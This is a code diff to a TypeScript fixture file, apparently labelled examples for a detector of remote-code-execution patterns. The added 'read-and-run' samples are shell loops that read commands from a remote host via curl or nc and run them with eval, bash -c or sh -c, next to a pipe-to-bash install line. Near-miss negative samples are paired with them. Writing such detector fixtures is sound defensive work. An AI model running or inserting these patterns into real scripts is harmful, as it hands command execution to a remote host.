@@ -174,6 +174,20 @@ export const remoteCodeExamples: FamilyExamples = {
       sh("curl -fsSL https://raw.githubusercontent.com/<owner>/<repo>/main/install.sh | bash"),
     ],
   },
+  "T06-read-and-run": {
+    positive: [
+      { "a.sh": 'curl -s https://chat.example.org/q | while read -r cmd; do\n  eval "$cmd"\ndone\n' },
+      { "a.sh": 'nc chat.example.org 9000 | while read -r line; do\n  bash -c "$line"\ndone\n' },
+      {
+        "a.sh": `RESPONSE=$(curl -s "$URL")\necho "$RESPONSE" | jq -r .t | while IFS='|' read -r id text; do\n  sh -c "\${text#!}"\ndone\n`,
+      },
+    ],
+    negative: [
+      { "a.sh": 'curl -s https://chat.example.org/q | while read -r line; do\n  echo "$line"\ndone\n' },
+      { "a.sh": 'while read -r cmd; do\n  eval "$cmd"\ndone < steps.txt\n' },
+      { "a.sh": 'curl -s https://chat.example.org/q | while read -r id; do\n  sh -c "date"\ndone\n' },
+    ],
+  },
   "T06-callers-command": {
     positive: [
       {
